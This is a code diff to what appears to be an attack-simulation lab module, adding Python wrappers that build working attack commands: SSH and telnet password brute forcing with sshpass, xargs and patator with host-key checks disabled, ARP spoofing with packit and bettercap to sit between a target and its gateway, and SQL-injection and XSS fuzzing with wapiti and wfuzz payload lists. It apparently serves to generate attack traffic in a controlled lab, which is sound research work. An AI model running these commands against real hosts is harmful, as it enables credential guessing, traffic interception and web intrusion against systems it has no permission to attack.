@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from wirespeak.lab.attacks.guess import words as guesses
 from wirespeak.lab.attacks.tool import Strike, own, tool
+from wirespeak.lab.world import Host
 
 _SETTINGS = "/proc/sys/net/ipv4"
 _RELAY = (
@@ -152,6 +153,29 @@ def dbclient_guess(s: Strike, *, words: int = 60, pause: float = 0.2) -> list[st
         "sh",
         "-c",
         f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do {one}; sleep {pause}; done <{listed}",
+    ]
+
+
+@tool("brute_force", package="sshpass")
+def openssh_guess(
+    s: Strike, *, words: int = 60, parallel: int = 1, exchange: str = "curve25519-sha256", pause: float = 0.1
+) -> list[str]:
+    """OpenSSH's client in a loop over a word list, `parallel` at once: one connection a password."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    settings = {
+        "StrictHostKeyChecking": "no",
+        "UserKnownHostsFile": "/dev/null",
+        "PubkeyAuthentication": "no",
+        "NumberOfPasswordPrompts": "1",
+        "ConnectTimeout": "5",
+        "KexAlgorithms": exchange,
+    }
+    options = " ".join(f"-o {name}={value}" for name, value in settings.items())
+    one = f'sleep {pause}; sshpass -p "$1" ssh {options} admin@{s.address} true </dev/null >/dev/null 2>&1; true'
+    return [
+        "timeout",
+        str(int(s.seconds)),
+        *("xargs", "-a", listed, "-P", str(min(parallel, 8)), "-n", "1", "sh", "-c", one, "guess"),
     ]
 
 
@@ -313,3 +337,116 @@ def ffuf_sqli(s: Strike, *, rate: float = 5.0) -> list[str]:
         "-u",
         f"http://{s.address}/item?id=FUZZ",
     ]
+
+
+@tool("spoof.arp", package="packit", reach="mac")
+def packit_arp(s: Strike, *, both: bool = False, request: bool = False) -> list[str]:
+    """packit's ARP replies, or with `request` questions, one a second to the target and with `both` to the gateway."""
+    ends = (s.target, s.world.host("gateway"))
+
+    def lie(told: Host, other: Host) -> str:
+        sender = f"-x {other.address} -X {s.attacker.mac} -e {s.attacker.mac}"
+        target = f"-y {told.address} -Y {told.mac} -E {told.mac}"
+        operation = 1 if request else 2
+        return f"packit -t ARP -A {operation} -i eth0 {sender} {target} -c {int(s.seconds)} -b 1 -w 1"
+
+    told = [lie(*ends), lie(*ends[::-1])] if both else [lie(*ends)]
+    return ["sh", "-c", f"{_RELAY}; {' & '.join(told)} & wait"]
+
+
+@tool("spoof.arp", package="bettercap", reach="mac")
+def bettercap(s: Strike, *, both: bool = True) -> list[str]:
+    """bettercap between the target and the gateway, told who they are instead of sweeping for them."""
+    gateway = s.world.host("gateway")
+    known = "; ".join(
+        f"ip neigh replace {host.address} lladdr {host.mac} dev eth0" for host in (s.target, gateway)
+    )
+    orders = f"set arp.spoof.targets {s.address}; set arp.spoof.fullduplex {str(both).lower()}; arp.spoof on"
+    run = f"bettercap -iface eth0 -gateway-override {gateway.address} -no-colors -no-history -eval '{orders}'"
+    return ["sh", "-c", f"{known}; sleep {int(s.seconds)} | timeout -s INT {int(s.seconds)} {run}"]
+
+
+@tool("brute_force", package="patator")
+def patator(
+    s: Strike, *, service: str = "http", words: int = 100, threads: int = 3, pause: float = 0.0
+) -> list[str]:
+    """patator on basic authentication, or with service "ssh" or "telnet" on a prompt."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    where = {
+        "http": ["http_fuzz", f"url=http://{s.address}/admin", "user_pass=admin:FILE0"],
+        "ssh": ["ssh_login", f"host={s.address}", "user=admin", "password=FILE0"],
+        "telnet": ["telnet_login", f"host={s.address}", "inputs=admin\\nFILE0", "prompt_re=ogin:|assword:"],
+    }[service]
+    return ["patator", *where, f"0={listed}", "-t", str(threads), f"--rate-limit={pause:g}"]
+
+
+@tool("brute_force", package="sshpass")
+def sshpass_guess(s: Strike, *, words: int = 60, pause: float = 0.2) -> list[str]:
+    """A loop of sshpass and OpenSSH's client over a word list: one connection a password."""
+    listed = s.list_file("words", guesses(s.random, min(words, 600)))
+    how = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o ConnectTimeout=4"
+    one = f'sshpass -p "$w" ssh {how} admin@{s.address} id </dev/null >/dev/null 2>&1'
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do {one}; sleep {pause}; done <{listed}",
+    ]
+
+
+def _wapiti(s: Strike, modules: str, *pages: str, keep: bool) -> list[str]:
+    """The pages are named to it: ours have no links to follow."""
+    first, *more = (f"http://{s.address}{page}" for page in pages)
+    starts = [word for page in more for word in ("-s", page)]
+    where = ["-u", first, *starts, "--scope", "domain", "-d", "1"]
+    time = ["-t", "3", "--max-scan-time", "10", "--max-attack-time", str(int(s.seconds))]
+    kept = [
+        "--flush-session",
+        "--store-session",
+        f"{s.world.folder}/wapiti",
+        "-o",
+        f"{s.world.folder}/wapiti.json",
+    ]
+    said = ["-f", "json", "-v", "1", "--no-bugreport", *([] if keep else ["-H", "Connection: close"])]
+    return ["wapiti", *where, "-m", modules, *time, *kept, *said]
+
+
+@tool("web.sqli", package="wapiti")
+def wapiti_sqli(s: Strike, *, modules: str = "sql,blindsql", keep: bool = False) -> list[str]:
+    """wapiti's modules for SQL injection on the pages with parameters."""
+    pages = ("/item?id=1", "/search?q=lamp", "/api/items?filter=on&sort=name", "/collect?name=me&id=4")
+    return _wapiti(s, modules, *pages, keep=keep)
+
+
+@tool("web.xss", package="wapiti")
+def wapiti_xss(s: Strike, *, modules: str = "xss", keep: bool = False) -> list[str]:
+    """wapiti's modules for script injection on the pages with parameters."""
+    pages = ("/search?q=lamp", "/comments?text=hello&name=me", "/item?id=1")
+    return _wapiti(s, modules, *pages, keep=keep)
+
+
+def _patator(s: Strike, listed: str, *, pause: float, post: bool) -> list[str]:
+    """Every line of one of wfuzz's lists, in a parameter of the item page or of the comments."""
+    page = f"url=http://{s.address}/{'comments' if post else 'item?id=FILE0'}"
+    body = ["method=POST", "body=text=FILE0&name=x"] if post else []
+    pace = ["-t", "2", f"--rate-limit={pause:g}"]
+    return [
+        "patator",
+        "http_fuzz",
+        page,
+        *body,
+        "persistent=0",
+        f"0=/usr/share/wfuzz/wordlist/{listed}",
+        *pace,
+    ]
+
+
+@tool("web.sqli", package="patator")
+def patator_sqli(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[str]:
+    """patator with a list of SQL injections that wfuzz brings."""
+    return _patator(s, "vulns/sql_inj.txt", pause=pause, post=post)
+
+
+@tool("web.xss", package="patator")
+def patator_xss(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[str]:
+    """patator with a list of script injections that wfuzz brings."""
+    return _patator(s, "Injections/XSS.txt", pause=pause, post=post)
